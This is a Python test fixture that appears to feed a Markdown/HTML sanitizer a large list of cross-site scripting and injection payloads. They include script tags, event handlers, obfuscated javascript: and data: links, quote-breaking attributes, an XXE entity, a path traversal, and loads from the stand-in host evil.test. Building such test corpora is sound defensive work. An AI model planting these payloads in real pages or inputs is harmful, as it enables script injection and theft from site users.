"""Texts that try to get something of their own into a page: each alone in its paragraph, and those that swallow what follows."""

from __future__ import annotations

EVIL = "https://evil.test/x"

ALONE = (
    # Elements and handlers.
    "<script>alert(1)</script>", "<ScRiPt src=https://evil.test/x.js></sCrIpT>", "<img src=x onerror=alert(1)>",
    "<img src=https://evil.test/a.png>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.test/x></object>", "<embed src=https://evil.test/x>", "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>x</marquee>", "<form action=https://evil.test/x><button>x",
    "<a href=javascript:alert(1)>x</a>", "<base href=https://evil.test/>", "<link rel=stylesheet href=https://evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/x'>", "<style>@import url(https://evil.test/x.css);</style>",
    "<div style=background:url(https://evil.test/x)>x</div>", "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<textarea><script>alert(1)</script></textarea>",
    "<xmp><script>alert(1)</script></xmp>", "<b onclick=alert(1)>x</b>", "<p id=x tabindex=1 onfocus=alert(1)>x</p>",
    "</main><script>alert(1)</script>", "<img src=x:x onerror\t=\talert(1)>", "<img/src=x/onerror=alert(1)>",
    "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<img \"\"\"><script>alert(1)</script>\">",
    # Addresses.
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](javascript&colon;alert(1))", "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))", "[x](java\tscript:alert(1))", "[x](<java\u0001script:alert(1)>)", "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.test/x)", "[x](\\\\evil.test\\x)", "[x](blob:https://evil.test/x)", "[x](ms-msdt:/id)", "[x](feed:javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))", "[x](\u202ejavascript:alert(1))", "[x](ＪavaScript:alert(1))",
    f"![x]({EVIL}.png)", "![x](javascript:alert(1))", "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x\" onerror=\"alert(1)](/files/" + "a1" * 32 + "x)", "![x](/files/../../api/v1/me)",
    # Quotes and titles.
    "[x](/a \"onmouseover=alert(1)\")", "[x](/a'onmouseover='alert(1))", "[x](<\"onmouseover=alert(1) x=\">)",
    "[x](https://a.test/\"><script>alert(1)</script>)", "![\"><script>alert(1)</script>](https://a.test/b)",
    # Autolinks.
    "<javascript:alert(1)>", "<data:text/html,x>", "<https://a.test/\"onclick=alert(1)>", "<mailto:a@b.c\"onclick=alert(1)>",
    # Reference links.
    "[r]\n\n[r]: javascript:alert(1)", "[r2]\n\n[r2]: <javascript:alert(1)> \"x\" onclick=alert(1)",
    # Tables and boxes.
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "| a \\| <b onclick=alert(1)> |\n|:-:|\n| `<script>alert(1)</script>` |",
    "- [ ] <img src=x onerror=alert(1)>\n- [x] [x](javascript:alert(1))",
    # Entities, code and unicode.
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "```html\"onmouseover=alert(1)\n<script>alert(1)</script>\n```", "`<img src=x onerror=alert(1)>`",
    "﹤script﹥alert(1)﹤/script﹥", "\u2028<img src=x onerror=alert(1)>", "<\u200bscript>alert(1)</\u200bscript>",
    "<!-- answer -->", "{{{body}}} {{>doc-head}} {{t.door.title}}",
)

SWALLOWING = ("<script>alert(1)", "<style>*{background:url(https://evil.test/x)}", "<!-- <script>alert(1)</script>",
              "<?php <script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'https://evil.test/x'>")


def paragraphs() -> str:
    """All that stand alone, as paragraphs and in lists and quotes."""
    plain = "\n\n".join(ALONE)
    quoted = "\n\n".join("> " + one.replace("\n", "\n> ") for one in (*ALONE, *SWALLOWING))
    return f"{plain}\n\n{quoted}"
